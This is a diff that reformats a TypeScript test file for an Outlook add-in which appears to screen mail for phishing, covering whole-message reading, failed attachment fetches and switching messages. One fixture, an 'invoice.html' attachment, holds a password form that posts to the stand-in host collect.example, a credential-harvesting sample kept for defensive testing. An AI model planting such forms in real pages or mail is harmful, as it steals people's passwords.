@@ -58,12 +58,18 @@ function eml(spec: EmlSpec): string {
     '',
     Buffer.from(a.content, 'utf8').toString('base64'),
   ]);
-  const body = ['--MIX', 'Content-Type: multipart/alternative; boundary="ALT"', '', alt, ...files, '--MIX--', ''].join('\r\n');
+  const body = ['--MIX', 'Content-Type: multipart/alternative; boundary="ALT"', '', alt, ...files, '--MIX--', ''].join(
+    '\r\n',
+  );
   const message = `${head}Content-Type: multipart/mixed; boundary="MIX"\r\n\r\n${body}`;
   return Buffer.from(message, 'utf8').toString('base64');
 }
 
-const INVOICE = { name: 'invoice.html', type: 'text/html', content: '<form action="https://collect.example/p"><input type="password"></form>' };
+const INVOICE = {
+  name: 'invoice.html',
+  type: 'text/html',
+  content: '<form action="https://collect.example/p"><input type="password"></form>',
+};
 
 const NOTES: FakeItem = {
   from: { displayName: 'Sato Hanako', emailAddress: 'sato@example.co.jp' },
@@ -71,7 +77,15 @@ const NOTES: FakeItem = {
   subject: 'Meeting notes',
   headers: HEADERS,
   html: HTML,
-  attachments: [{ name: 'invoice.html', contentType: 'text/html', size: INVOICE.content.length, attachmentType: 'file', isInline: false }],
+  attachments: [
+    {
+      name: 'invoice.html',
+      contentType: 'text/html',
+      size: INVOICE.content.length,
+      attachmentType: 'file',
+      isInline: false,
+    },
+  ],
   eml: eml({ html: HTML, text: `Sign in: ${TEXT_ONLY_LINK}`, attachments: [INVOICE] }),
 };
 
@@ -89,7 +103,9 @@ async function until(predicate: () => unknown, what: string): Promise<void> {
 }
 
 /** The refinement with the .eml read in place: Node has no Web Worker (the Chromium test runs the real one). */
-const inPlace: RefineCode = { refineReading: (options) => refineModule.refineReading({ readWhole: readWholeMessage, ...options }) };
+const inPlace: RefineCode = {
+  refineReading: (options) => refineModule.refineReading({ readWhole: readWholeMessage, ...options }),
+};
 
 /** The pane with an analyze spy: every input it was handed, in order. */
 async function start(item: FakeItem, extra: Partial<TaskpaneOptions> & { mailboxVersion?: string } = {}) {
@@ -134,7 +150,9 @@ describe('Outlook task pane: the whole message (Mailbox 1.14)', () => {
     // The first draw: Outlook's header block and HTML body; the item's attachment list, name, type and size only.
     expect(seen).to.have.length.at.least(1);
     expect(seen[0]!.text).to.equal(undefined);
-    expect(seen[0]!.attachments).to.deep.equal([{ filename: 'invoice.html', mimeType: 'text/html', size: INVOICE.content.length }]);
+    expect(seen[0]!.attachments).to.deep.equal([
+      { filename: 'invoice.html', mimeType: 'text/html', size: INVOICE.content.length },
+    ]);
     expect(ids(container)).to.not.include('links.brand-in-path');
     const draws = countDraws(container);
 
@@ -157,7 +175,10 @@ describe('Outlook task pane: the whole message (Mailbox 1.14)', () => {
   });
 
   it('keeps the first draw, with nothing alarming, when getAsFileAsync fails', async () => {
-    const { container, fake, seen, pane } = await start({ ...NOTES, eml: { error: 'The operation failed.', code: 9020 } });
+    const { container, fake, seen, pane } = await start({
+      ...NOTES,
+      eml: { error: 'The operation failed.', code: 9020 },
+    });
     const first = container.innerHTML;
     const draws = countDraws(container);
     await pane.refinement();
@@ -201,7 +222,13 @@ describe('Outlook task pane: the whole message (Mailbox 1.14)', () => {
     const { container, fake, seen, pane } = await start(slow);
     const leftFor = pane.refinement();
     // The reader moves on before Outlook answers: the next message has no .eml to give.
-    const next: FakeItem = { ...NOTES, subject: 'Lunch', html: '<p>Lunch at noon.</p>', eml: undefined, attachments: [] };
+    const next: FakeItem = {
+      ...NOTES,
+      subject: 'Lunch',
+      html: '<p>Lunch at noon.</p>',
+      eml: undefined,
+      attachments: [],
+    };
     fake.selectItem(next);
     await until(() => seen.some((i) => i.html?.includes('Lunch at noon')), 'the next message drawn');
     await leftFor;
